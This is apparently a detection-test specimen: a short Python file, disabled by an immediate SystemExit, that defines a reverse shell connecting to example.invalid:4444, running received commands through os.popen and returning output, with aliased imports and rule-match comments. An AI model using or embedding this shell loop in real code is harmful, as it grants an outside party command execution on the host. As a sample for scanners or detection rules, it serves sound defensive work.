raise SystemExit("specimen: not to be run")
from socket import create_connection as dial
from os import popen as ask

def begin():
    line = dial(("example.invalid", 4444))
    while True:
        line.send(ask(line.recv(1024).decode()).read().encode())  # match: socket-commands  # match: execution-of-downloaded
